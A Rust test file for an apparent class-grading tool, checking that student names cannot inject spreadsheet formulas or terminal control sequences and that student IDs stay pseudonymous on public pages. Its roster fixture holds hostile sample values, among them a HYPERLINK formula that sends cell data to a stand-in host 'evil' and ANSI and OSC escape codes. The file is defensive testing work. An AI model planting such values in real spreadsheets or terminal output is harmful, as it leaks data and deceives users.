//! Names of students that a spreadsheet would run and that would control a terminal.

use std::process::Command;

use crate::class::Class;
use testkit::list::Tests;
use testkit::programs::built;
use testkit::terminal::Terminal;

pub(crate) fn tests(tests: &mut Tests) {
    add!(
        tests,
        no_name_harms_a_table_or_a_terminal,
        ids_are_public_only_if_asked
    );
}

const ROSTER: &str = "id,name,team\nada,=1+2,@SUM(1)\nbob,\u{a0}=1,\"\u{a0}=HYPERLINK(\"\"http://evil/?\"\"&A1)\"\ncyd,\u{ff1d}1,\u{ff20}a\ndan,-1,+1\neve,x\u{1b}[31m\u{202e},\u{1b}]0;evil\u{7}\n";

fn no_name_harms_a_table_or_a_terminal() {
    let class = Class::new(ROSTER);
    class.run("site");
    let grades = class.run("grade");
    let pages = class.text("private/pages.csv");
    for (table, columns) in [(&pages, [1, 3]), (&grades.stdout, [1, 2])] {
        let mut lines = table.lines().skip(1);
        for id in ["ada", "bob", "cyd", "dan"] {
            let row: Vec<_> = lines.next().unwrap().splitn(4, ',').collect();
            assert_eq!(row[0], id, "{table}");
            for column in columns {
                let cell = row[column].trim_start_matches('"');
                assert!(cell.starts_with('\''), "{table}");
            }
        }
    }
    // A program gets the name as it is.
    grades.prints("x\u{1b}[31m\u{202e}");
    let mut command = Command::new(built("referee"));
    command.args(["class", "grade", "-C"]).arg(class.path(""));
    let (shown, _) = Terminal::sized((200, 24), command).ends();
    assert!(shown.contains("x\\u{1b}[31m\\u{202e}"), "{shown:?}");
    let control = ['\u{1b}', '\u{7}', '\u{202e}'];
    assert!(!shown.contains(control), "{shown:?}");
}

fn ids_are_public_only_if_asked() {
    let class = Class::new("id,name,team\ns4711,Ada,\ns4712,Bob,Duo\n");
    let are_public = || {
        class.run("site");
        let list = class.text("private/pages.csv");
        let public = class.public_page();
        assert!(class.page("s4711").contains("for Ada alone"));
        ["s4711", "s4712", "Duo"].map(|name| {
            let line = list.lines().find(|line| line.starts_with(name));
            let called = line.map_or(name, |line| line.split(',').nth(3).unwrap());
            assert!(public.contains(called), "{called}");
            public.contains(name)
        })
    };
    assert_eq!(are_public(), [false, false, true]);
    class.set("[build]", "pseudonyms = false\n[build]");
    assert_eq!(are_public(), [true, false, true]);
}
